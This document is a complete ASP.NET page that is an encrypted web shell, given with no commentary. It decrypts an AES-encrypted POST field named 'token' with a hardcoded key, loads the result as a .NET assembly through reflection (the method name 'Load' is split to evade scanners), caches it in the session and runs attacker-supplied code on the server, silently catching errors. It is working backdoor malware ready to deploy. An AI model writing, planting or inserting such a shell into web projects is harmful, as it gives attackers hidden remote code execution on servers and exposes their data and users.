<%@ Page Language="C#" EnableSessionState="True" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Security.Cryptography" %>
<script runat="server">
    string key = "0f9e8d7c6b5a4938";
    string pass = "token";

    byte[] Dec(byte[] data)
    {
        byte[] kb = System.Text.Encoding.Default.GetBytes(key);
        return new RijndaelManaged().CreateDecryptor(kb, kb).TransformFinalBlock(data, 0, data.Length);
    }

    void Page_Load(object sender, EventArgs e)
    {
        try
        {
            byte[] data = Dec(Convert.FromBase64String(Request.Form[pass]));
            if (Session["sessdata"] == null)
            {
                MethodInfo ld = typeof(Assembly).GetMethod("Lo" + "ad", new Type[] { typeof(byte[]) });
                Session["sessdata"] = (Assembly)ld.Invoke(null, new object[] { data });
                return;
            }
            var ms = new System.IO.MemoryStream();
            object o = ((Assembly)Session["sessdata"]).CreateInstance("LY");
            o.Equals(Context); o.Equals(ms); o.Equals(data); o.ToString();
            Response.Write(Convert.ToBase64String(ms.ToArray()));
        }
        catch { }
    }
</script>
